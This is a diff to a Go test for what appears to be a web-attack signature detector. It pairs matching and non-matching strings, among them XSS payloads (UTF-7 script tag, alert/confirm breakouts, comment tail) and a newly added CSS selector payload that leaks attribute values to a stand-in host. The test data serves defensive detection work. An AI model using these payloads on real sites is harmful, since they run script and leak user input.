@@ -31,6 +31,8 @@ func TestSigns(t *testing.T) {
 	f(&utf7Tag, point.Text, `+ADw-script+AD4-`, `+1 -1 +2`)
 	f(&domWrite, point.Text, `document.write('<b>')`, `document.title`)
 	f(&sinkPassed, point.Text, `[1].map(alert)`, `[1].map(parse)`)
+	f(&styleLeak, point.Text, `<style>a[value^=k]{background:url(//h.example/k)}</style>`, `<style>a[value^=k]{color:red}</style>`)
+	f(&tagRest, point.Text, `"confirm(2)">`, `"confirm">`)
 	f(&tailComment, point.Text, `';alert(1)//`, `';alert(1)`)
 	f(&pageProbe, point.Text, `k7'/"<m2`, `it's"a<b`)
 	f(&pageProbe, point.UserAgent, `Browser/5.0 (X11) k7'/"<m2`, `Browser/5.0 (X11; "a" 'b' <c>)`)
